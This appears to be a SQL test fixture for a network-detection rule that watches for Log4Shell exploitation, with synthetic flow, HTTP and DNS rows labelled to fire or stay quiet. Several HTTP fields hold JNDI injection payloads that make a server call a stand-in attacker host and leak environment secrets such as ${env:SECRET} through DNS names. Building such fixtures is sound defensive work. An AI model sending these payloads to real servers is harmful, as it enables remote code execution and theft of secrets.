-- fires: the host asks the place in the expression, with the secret as the name
INSERT INTO flows BY NAME SELECT * EXCLUDE i REPLACE ('198.51.100.7' AS src_ip, '10.0.0.5' AS dst_ip, 'inbound' AS direction) FROM some_flows(1);
INSERT INTO http(capture_id, flow_id, ts, trans_depth, method, uri, user_agent) VALUES (1, 1, sec(0), 1, 'GET', '/', '${jndi:dns://198.51.100.7/${env:SECRET}}');
INSERT INTO dns BY NAME SELECT * EXCLUDE i REPLACE (2 AS flow_id, sec(1) AS ts, '198.51.100.7' AS server_ip, 'hunter2' AS query) FROM some_questions(1);
-- fires: the host connects to it
INSERT INTO flows BY NAME SELECT * EXCLUDE i REPLACE ('198.51.100.7' AS src_ip, '10.0.0.5' AS dst_ip, 'inbound' AS direction) FROM some_flows(1);
INSERT INTO http(capture_id, flow_id, ts, trans_depth, method, uri) VALUES (1, 1, sec(0), 1, 'GET', '/?x=$%7Bjndi:ldap://203.0.113.9:1389/a%7D');
INSERT INTO flows BY NAME SELECT * EXCLUDE i REPLACE (2 AS flow_id, sec(2) AS first_ts, '203.0.113.9' AS dst_ip, 1389 AS dst_port) FROM some_flows(1);
-- fires: the secret is a part of the name
INSERT INTO flows BY NAME SELECT * EXCLUDE i REPLACE ('198.51.100.7' AS src_ip, '10.0.0.5' AS dst_ip, 'inbound' AS direction) FROM some_flows(1);
INSERT INTO http(capture_id, flow_id, ts, trans_depth, method, uri, user_agent) VALUES (1, 1, sec(0), 1, 'GET', '/', '${jndi:ldap://${env:KEY}.evil.example/a}');
INSERT INTO dns BY NAME SELECT * EXCLUDE i REPLACE (2 AS flow_id, sec(1) AS ts, 'k3y.evil.example' AS query) FROM some_questions(1);
-- quiet: an attempt that nothing follows
INSERT INTO flows BY NAME SELECT * EXCLUDE i REPLACE ('198.51.100.7' AS src_ip, '10.0.0.5' AS dst_ip, 'inbound' AS direction) FROM some_flows(1);
INSERT INTO http(capture_id, flow_id, ts, trans_depth, method, uri, user_agent) VALUES (1, 1, sec(0), 1, 'GET', '/', '${jndi:ldap://203.0.113.9/a}');
INSERT INTO dns BY NAME SELECT * EXCLUDE i REPLACE (2 AS flow_id, sec(1) AS ts) FROM some_questions(1);
-- quiet: the place was visited before, or much later
INSERT INTO flows BY NAME SELECT * EXCLUDE i REPLACE (sec(100) AS first_ts, '198.51.100.7' AS src_ip, '10.0.0.5' AS dst_ip, 'inbound' AS direction) FROM some_flows(1);
INSERT INTO http(capture_id, flow_id, ts, trans_depth, method, uri, user_agent) VALUES (1, 1, sec(100), 1, 'GET', '/', '${jndi:ldap://203.0.113.9/a}');
INSERT INTO flows BY NAME SELECT * EXCLUDE i REPLACE (2 + i AS flow_id, sec(i * 900) AS first_ts, '203.0.113.9' AS dst_ip) FROM some_flows(2);
